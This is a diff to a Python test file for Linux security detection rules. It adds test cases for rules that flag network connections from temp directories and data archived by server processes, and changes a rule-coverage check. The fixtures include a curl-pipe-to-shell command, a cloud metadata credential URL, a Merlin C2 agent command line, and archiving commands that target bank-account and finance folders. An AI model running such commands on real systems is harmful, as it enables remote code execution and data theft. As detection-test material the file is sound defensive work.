@@ -108,6 +108,10 @@ CRON = P("/usr/sbin/cron -f -P", exe="/usr/sbin/cron")
 SSHD = P("sshd: alice@pts/0", exe="/usr/sbin/sshd")
 RUNC = P("runc exec --process /tmp/runc-process1 c0ffee", exe="/usr/bin/runc")
 SH_C = P(["sh", "-c", "curl -s http://203.0.113.7/x.sh | sh"])
+AGENT = P(  # the Merlin agent of the Tetragon capture, built by `go run` in /tmp
+    "/tmp/go-build3518135900/b001/exe/main -v -url https://main.linux-libs.org:443 -proto h2",
+    cwd="/opt/merlin-agent/",
+)
 ADMIN = {"tty": "pts/0", "auid": 1000, "session_id": 12}
 K8S = {"session_kind": "k8s", "session_user": "alice@example.com", "tty": "pts/0"}
 CREDS = "http://169.254.169.254/latest/meta-data/iam/security-credentials/web-prod-role"
@@ -719,6 +723,44 @@ CASES: dict[str, tuple[list[dict[str, Any]], list[dict[str, Any]]]] = {
             E("insmod /lib/modules/6.8.0/kernel/fs/x.ko", "bash"),
         ],
     ),
+    "linux.connection_from_temp_dir": (
+        [
+            net(AGENT, "34.116.205.187", 443),
+            net(P("/dev/shm/.x/kworker", exe="/dev/shm/.x/kworker"), "10.0.3.20", 8443),
+            net(P("/root/.cache/.u/upd", exe="/root/.cache/.u/upd"), "2001:db8::7", 443),
+            net(P("/home/alice/.config/x/agent", exe="/home/alice/.config/x/agent"), "8.8.8.8", 53),
+        ],
+        [
+            net(AGENT, "127.0.0.1", 8080),
+            net(AGENT, "::1", 8080),
+            V("network_connect", AGENT, family="unix"),
+            net("curl -s https://34.116.205.187", "34.116.205.187", 443),
+            net(P("node", exe="/home/alice/.vscode-server/bin/abc/node"), "13.107.5.3", 443),
+            net(P("aws", exe="/home/alice/.local/bin/aws"), "52.218.48.10", 443),
+            net(P("/opt/tmp/agent", exe="/opt/tmp/agent"), "34.116.205.187", 443),
+        ],
+    ),
+    "linux.data_archived_by_program": (
+        [
+            E(P(["/bin/sh", "-c", "7z a s3nsitiv3.7z ../ops_bank_accounts/"]), AGENT),
+            E(P(["sh", "-c", "tar czf /tmp/h.tgz /home/alice"]), JAVA),
+            E(P(["sh", "-c", "cd /var/www && zip -r /tmp/w.zip html/"]), PHP),
+            E(P(["bash", "-c", 'rar a x.rar "/srv/share/finance/"']), NGINX),
+            E("/usr/bin/7z a s.7z ../ops_bank_accounts/", AGENT),
+            E("tar -cf /dev/shm/d.tar /data/db/", JAVA),
+        ],
+        [
+            E("7z a s.7z ../ops_bank_accounts/", "bash"),
+            E(P(["sh", "-c", "tar czf /backup/home.tgz /home"]), CRON),
+            E(P(["sh", "-c", "tar czf /var/backups/etc.tar.gz /etc"]), JAVA),
+            E(P(["sh", "-c", "tar xzf x.tgz -C data/"]), JAVA),
+            E(P(["sh", "-c", "unzip x.zip -d data/"]), JAVA),
+            E(P(["sh", "-c", "gzip -9 logs/app.log"]), JAVA),
+            E("tar cf - /data/db", RUNC),
+            E("tar czf /var/backups/etc.tar.gz /etc", P("/bin/bash /usr/local/bin/backup.sh")),
+            E(P(["sh", "-c", "7z a s.7z ../ops/"]), SSHD),
+        ],
+    ),
 }
 
 
@@ -759,7 +801,9 @@ def test_exactly_the_exploitation_rules_mark_processes_compromised() -> None:
 
 
 def test_every_rule_has_test_cases() -> None:
-    assert set(CASES) == {r.id for r in pack()}
+    # a multi-event rule has its own tests (tests/rules/test_beaconing.py)
+    assert set(CASES) == {r.id for r in pack() if r.beaconing is None}
+    assert {r.id for r in pack() if r.beaconing is not None} == {"linux.beaconing"}
     for positives, negatives in CASES.values():
         assert positives and negatives
 
